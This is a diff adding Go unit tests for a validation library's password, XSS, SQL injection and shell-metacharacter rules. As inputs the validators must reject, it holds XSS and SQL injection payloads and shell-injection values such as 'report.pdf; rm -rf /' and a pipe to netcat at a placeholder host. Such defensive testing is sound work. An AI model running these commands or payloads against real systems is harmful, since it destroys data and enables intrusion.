@@ -1,9 +1,16 @@
 package rule
 
 import (
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
 	"testing"
+	"testing/iotest"
+	"time"
 
 	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
 )
 
 func TestPasswordStrength(t *testing.T) {
@@ -65,6 +72,20 @@ func TestPasswordStrength(t *testing.T) {
 	}
 }
 
+func TestPasswordStrengthRuneLength(t *testing.T) {
+	// "密码Aa1!" is 6 runes, but 10 bytes long.
+	assert.Nil(t, PasswordStrength().Validate("密码Aa1!"))
+	assert.ErrorIs(t, PasswordStrength().RuneLength().Validate("密码Aa1!"), ErrPasswordStrength)
+	assert.Nil(t, PasswordStrength().RuneLength().Validate("密码安全Aa1!"))
+	assert.Nil(t, PasswordStrength().RuneLength().MaxLength(8).Validate("密码安全Aa1!"))
+	assert.Error(t, PasswordStrength().MaxLength(8).Validate("密码安全Aa1!"))
+
+	SetPasswordRuneLength(true)
+	defer SetPasswordRuneLength(false)
+	assert.ErrorIs(t, PasswordStrength().Validate("密码Aa1!"), ErrPasswordStrength)
+	assert.Nil(t, PasswordStrength().ByteLength().Validate("密码Aa1!"))
+}
+
 func TestPasswordComplex(t *testing.T) {
 	tests := []struct {
 		name    string
@@ -114,6 +135,119 @@ func TestPasswordComplex(t *testing.T) {
 	}
 }
 
+func TestPasswordComplexNotContaining(t *testing.T) {
+	rule := PasswordComplex().NotContaining("JohnDoe", "john.smith@example.com", "Acme Corp", "Al", "")
+	tests := []struct {
+		name    string
+		value   string
+		wantErr bool
+	}{
+		{name: "valid: unrelated password", value: "Sunrise#Valley42", wantErr: false},
+		{name: "valid: short value ignored", value: "Always#Valley42", wantErr: false},
+		{name: "valid: email domain ignored", value: "Example#Valley42", wantErr: false},
+		{name: "invalid: username", value: "xJohnDoe#2024!", wantErr: true},
+		{name: "invalid: username in other case", value: "JOHNDOE#2024!x", wantErr: true},
+		{name: "invalid: username with l33t", value: "J0hnD0e#2024!x", wantErr: true},
+		{name: "invalid: email local part", value: "#J0hn.Smi7h2024", wantErr: true},
+		{name: "invalid: company word", value: "Acm3!Sunrise#2024", wantErr: true},
+		{name: "invalid: company without space", value: "xAcmeC0rp#2024", wantErr: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := rule.Validate(tt.value)
+			if (err != nil) != tt.wantErr {
+				t.Errorf("PasswordComplex().NotContaining().Validate() error = %v, wantErr %v", err, tt.wantErr)
+			}
+			if err != nil {
+				assert.ErrorIs(t, err, ErrPasswordComplex)
+			}
+		})
+	}
+
+	assert.Equal(t, "password", foldLeet("P@$$w0rd"))
+	assert.Equal(t, "iiii", foldLeet("1|lI"))
+}
+
+func TestPasswordComplexMaxSequenceLength(t *testing.T) {
+	tests := []struct {
+		name    string
+		value   string
+		wantErr bool
+	}{
+		{name: "valid: no sequences", value: "Tr0ub4dor&3Horse", wantErr: false},
+		{name: "valid: run at the limit", value: "Sunrise#Valley123", wantErr: false},
+		{name: "valid: back and forth on the keyboard", value: "Were#Valley42!", wantErr: false},
+		{name: "invalid: ascending digits", value: "Valley#12345!x", wantErr: true},
+		{name: "invalid: descending digits", value: "Valley#98765!x", wantErr: true},
+		{name: "invalid: letters in mixed case", value: "xaBcDe#Valley42", wantErr: true},
+		{name: "invalid: keyboard row", value: "Asdfgh!Summer24", wantErr: true},
+		{name: "invalid: reversed keyboard row", value: "Poiuy!Summer24", wantErr: true},
+		{name: "invalid: keyboard column", value: "1qaz#Valley42!", wantErr: true},
+		{name: "invalid: repeated block", value: "abcabc#Valley42", wantErr: true},
+		{name: "invalid: repeated pair", value: "Valley#4242!x", wantErr: true},
+	}
+
+	rule := PasswordComplex().MaxSequenceLength(3)
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := rule.Validate(tt.value)
+			if (err != nil) != tt.wantErr {
+				t.Errorf("PasswordComplex().MaxSequenceLength(3).Validate() error = %v, wantErr %v", err, tt.wantErr)
+			}
+		})
+	}
+
+	// The check is disabled by default.
+	assert.Nil(t, PasswordComplex().Validate("Valley#12345!x"))
+	assert.Equal(t, 0, longestPasswordSequence(""))
+	assert.Equal(t, 1, longestPasswordSequence("x"))
+}
+
+func TestPasswordComplexLongInput(t *testing.T) {
+	// Repeated blocks are searched in linear time.
+	value := strings.Repeat("t7#Vq9!mLp", 10_000)
+	start := time.Now()
+	assert.Equal(t, len(value), longestPasswordSequence(value))
+	assert.Error(t, PasswordComplex().MaxSequenceLength(3).Validate(value))
+	assert.Less(t, time.Since(start), 2*time.Second)
+}
+
+func TestPasswordComplexForbiddenList(t *testing.T) {
+	rule := PasswordComplex().
+		ForbiddenList(strings.NewReader("Welcome2Acme!\n\n  Summer#2024xyz  \nwelcome2acme!\n")).
+		ForbiddenList(strings.NewReader("Autumn#2024xyz\n"))
+	entries := make([]string, len(rule.forbiddenList.offsets))
+	for i := range entries {
+		entries[i] = string(rule.forbiddenList.entry(i))
+	}
+	assert.Equal(t, []string{"autumn#2024xyz", "summer#2024xyz", "welcome2acme!"}, entries)
+
+	assert.Error(t, rule.Validate("Welcome2Acme!"))
+	assert.Error(t, rule.Validate("SUMMER#2024XYZ"))
+	assert.Error(t, rule.Validate("autumn#2024xyz"))
+	assert.Nil(t, rule.Validate("Welcome2Acme!!"))
+	assert.Nil(t, rule.Validate(""))
+
+	path := filepath.Join(t.TempDir(), "breached.txt")
+	require.NoError(t, os.WriteFile(path, []byte("Tr0ub4dor&3Horse\n"), 0o600))
+	assert.ErrorIs(t, PasswordComplex().ForbiddenFile(path).Validate("tr0ub4dor&3horse"), ErrPasswordComplex)
+	assert.Nil(t, PasswordComplex().ForbiddenFile(path).Validate("Tr0ub4dor&3Horses"))
+
+	// Lines too long to be passwords are skipped instead of failing the list.
+	long := PasswordComplex().ForbiddenList(strings.NewReader(strings.Repeat("x", 100_000) + "\nWinter#2024xyz\n" + strings.Repeat("y", 2000) + "\n"))
+	assert.Nil(t, long.listErr)
+	assert.Len(t, long.forbiddenList.offsets, 1)
+	assert.Error(t, long.Validate("winter#2024xyz"))
+	assert.Nil(t, long.Validate("Spring#2024xyz"))
+
+	// A list that cannot be read makes every password fail.
+	err := PasswordComplex().ForbiddenFile(filepath.Join(t.TempDir(), "missing.txt")).Validate("Tr0ub4dor&3Horse")
+	assert.ErrorIs(t, err, os.ErrNotExist)
+	err = PasswordComplex().ForbiddenList(iotest.ErrReader(errors.New("read failed"))).Errf("weak").Validate("Tr0ub4dor&3Horse")
+	assert.ErrorContains(t, err, "read failed")
+}
+
 func TestXSS(t *testing.T) {
 	tests := []struct {
 		name    string
@@ -357,3 +491,154 @@ func TestSQLInjectionFallback(t *testing.T) {
 	err := (&SQLInjectionRule{}).Validate("SELECT * FROM users")
 	assert.Error(t, err)
 }
+
+func TestXSSConfiguration(t *testing.T) {
+	tests := []struct {
+		name    string
+		rule    *XSSRule
+		value   string
+		wantErr bool
+	}{
+		{name: "invalid: img tag by default", rule: XSS(), value: `<img src="cat.png">`, wantErr: true},
+		{name: "valid: allowed img tag", rule: XSS().AllowTags("IMG"), value: `<img src="cat.png">`, wantErr: false},
+		{name: "invalid: allowed tag with event handler", rule: XSS().AllowTags("img"), value: `<img src="x" onerror="alert(1)">`, wantErr: true},
+		{name: "invalid: script still rejected", rule: XSS().AllowTags("img"), value: "<script>alert(1)</script>", wantErr: true},
+		{name: "valid: removed built-in pattern", rule: XSS().RemovePattern("eval"), value: "eval(x + y)", wantErr: false},
+		{name: "invalid: added pattern", rule: XSS().AddPattern(`(?i)<svg[^>]*>`), value: "<svg onload=x>", wantErr: true},
+		{name: "invalid: added pattern only", rule: XSS().AddPattern(`(?i)<svg[^>]*>`), value: "<SVG>", wantErr: true},
+		{name: "valid: removed added pattern", rule: XSS().AddPattern(`(?i)<svg[^>]*>`).RemovePattern(`(?i)<svg[^>]*>`), value: "<svg>", wantErr: false},
+		{name: "invalid: invalid added pattern", rule: XSS().AddPattern(`[invalid`), value: "hello", wantErr: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := tt.rule.Validate(tt.value)
+			if (err != nil) != tt.wantErr {
+				t.Errorf("XSSRule.Validate() error = %v, wantErr %v", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestSQLInjectionConfiguration(t *testing.T) {
+	tests := []struct {
+		name    string
+		rule    *SQLInjectionRule
+		value   string
+		wantErr bool
+	}{
+		{name: "invalid: keyword in strict mode", rule: SQLInjection(), value: "union meeting agenda", wantErr: true},
+		{name: "valid: keyword in balanced mode", rule: SQLInjection().Balanced(), value: "union meeting agenda", wantErr: false},
+		{name: "invalid: statement in balanced mode", rule: SQLInjection().Balanced(), value: "SELECT * FROM users", wantErr: true},
+		{name: "invalid: drop table in balanced mode", rule: SQLInjection().Balanced(), value: "drop table users", wantErr: true},
+		{name: "valid: update in balanced mode", rule: SQLInjection().Balanced(), value: "please update the settings", wantErr: false},
+		{name: "valid: statement-like text in lenient mode", rule: SQLInjection().Lenient(), value: "please select one from the list", wantErr: false},
+		{name: "invalid: tautology in lenient mode", rule: SQLInjection().Lenient(), value: "1 OR 1=1", wantErr: true},
+		{name: "invalid: quoted tautology in lenient mode", rule: SQLInjection().Lenient(), value: "x' OR '1'='1", wantErr: true},
+		{name: "invalid: quote comment in lenient mode", rule: SQLInjection().Lenient(), value: "admin'--", wantErr: true},
+		{name: "invalid: union select in lenient mode", rule: SQLInjection().Lenient(), value: "1 UNION ALL SELECT password FROM users", wantErr: true},
+		{name: "invalid: stacked query in lenient mode", rule: SQLInjection().Lenient(), value: "1; DROP TABLE users", wantErr: true},
+		{name: "invalid: sleep in lenient mode", rule: SQLInjection().Lenient(), value: "1 AND SLEEP(5)", wantErr: true},
+		{name: "valid: apostrophe in lenient mode", rule: SQLInjection().Lenient(), value: "Don't order the union special", wantErr: false},
+		{name: "valid: quote before or in lenient mode", rule: SQLInjection().Lenient(), value: "the 'or' operator", wantErr: false},
+		{name: "valid: quote before and in balanced mode", rule: SQLInjection().Balanced(), value: "say 'and then'", wantErr: false},
+		{name: "invalid: quote before keyword prefix by default", rule: SQLInjection(), value: "x'ordinal", wantErr: true},
+		{name: "invalid: back to strict", rule: SQLInjection().Lenient().Strict(), value: "union meeting agenda", wantErr: true},
+		{name: "valid: removed built-in pattern", rule: SQLInjection().RemovePattern("comment"), value: "Issue #", wantErr: false},
+		{name: "invalid: added pattern", rule: SQLInjection().Lenient().AddPattern(`(?i)\binformation_schema\b`), value: "information_schema.tables", wantErr: true},
+		{name: "valid: removed added pattern", rule: SQLInjection().AddPattern(`(?i)\bpg_sleep\b`).RemovePattern(`(?i)\bpg_sleep\b`), value: "pg_sleep", wantErr: false},
+		{name: "invalid: invalid added pattern", rule: SQLInjection().AddPattern(`[invalid`), value: "hello", wantErr: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := tt.rule.Validate(tt.value)
+			if (err != nil) != tt.wantErr {
+				t.Errorf("SQLInjectionRule.Validate() error = %v, wantErr %v", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestNoShellMeta(t *testing.T) {
+	tests := []struct {
+		name    string
+		rule    *NoShellMetaRule
+		value   string
+		wantErr bool
+	}{
+		{name: "valid: file name", rule: NoShellMeta(), value: "report-2024.pdf", wantErr: false},
+		{name: "valid: spaces and quotes", rule: NoShellMeta(), value: "John's report (final)", wantErr: false},
+		{name: "valid: price", rule: NoShellMeta(), value: "costs $5", wantErr: false},
+		{name: "valid: empty string", rule: NoShellMeta(), value: "", wantErr: false},
+		{name: "invalid: command separator", rule: NoShellMeta(), value: "report.pdf; rm -rf /", wantErr: true},
+		{name: "invalid: pipe", rule: NoShellMeta(), value: "x | nc evil 80", wantErr: true},
+		{name: "invalid: and list", rule: NoShellMeta(), value: "a && b", wantErr: true},
+		{name: "invalid: backticks", rule: NoShellMeta(), value: "`id`", wantErr: true},
+		{name: "invalid: command substitution", rule: NoShellMeta(), value: "$(id)", wantErr: true},
+		{name: "invalid: variable expansion", rule: NoShellMeta(), value: "$HOME", wantErr: true},
+		{name: "invalid: redirection", rule: NoShellMeta(), value: "x > /etc/passwd", wantErr: true},
+		{name: "invalid: newline", rule: NoShellMeta(), value: "a\nid", wantErr: true},
+		{name: "valid: allowed ampersand", rule: NoShellMeta().Allow("&"), value: "Johnson & Johnson", wantErr: false},
+		{name: "valid: strict literal", rule: NoShellMeta().Strict(), value: "backup_2024-01.tar.gz", wantErr: false},
+		{name: "invalid: strict space", rule: NoShellMeta().Strict(), value: "my file.txt", wantErr: true},
+		{name: "invalid: strict glob", rule: NoShellMeta().Strict(), value: "*.txt", wantErr: true},
+		{name: "invalid: strict quote", rule: NoShellMeta().Strict(), value: "it's", wantErr: true},
+		{name: "valid: strict with allowed space", rule: NoShellMeta().Strict().Allow(" "), value: "my file.txt", wantErr: false},
+		{name: "custom error message", rule: NoShellMeta().Errf("custom error"), value: "a;b", wantErr: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := tt.rule.Validate(tt.value)
+			if (err != nil) != tt.wantErr {
+				t.Errorf("NoShellMetaRule.Validate() error = %v, wantErr %v", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestNoShellMetaFallback(t *testing.T) {
+	err := (&NoShellMetaRule{}).Validate("a;b")
+	assert.ErrorIs(t, err, ErrShellMeta)
+}
+
+func TestSecurityRulesAllocations(t *testing.T) {
+	if raceEnabled {
+		t.Skip("the race detector makes regular expressions allocate")
+	}
+	xss := XSS()
+	sql := SQLInjection()
+	complexity := PasswordComplex()
+
+	assert.Zero(t, testing.AllocsPerRun(100, func() { _ = xss.Validate("Hello, <b>world</b>!") }))
+	assert.Zero(t, testing.AllocsPerRun(100, func() { _ = sql.Validate("John Doe") }))
+	assert.Zero(t, testing.AllocsPerRun(100, func() { _ = complexity.Validate("c0mpl3x!p@ss") }))
+}
+
+func BenchmarkXSS(b *testing.B) {
+	rule := XSS()
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_ = rule.Validate("Hello, <b>world</b>! This is a perfectly normal comment.")
+	}
+}
+
+func BenchmarkSQLInjection(b *testing.B) {
+	rule := SQLInjection()
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_ = rule.Validate("John Doe from the union meeting")
+	}
+}
+
+func BenchmarkPasswordComplex(b *testing.B) {
+	rule := PasswordComplex()
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_ = rule.Validate("C0mpl3x!P@ssw0rd")
+	}
+}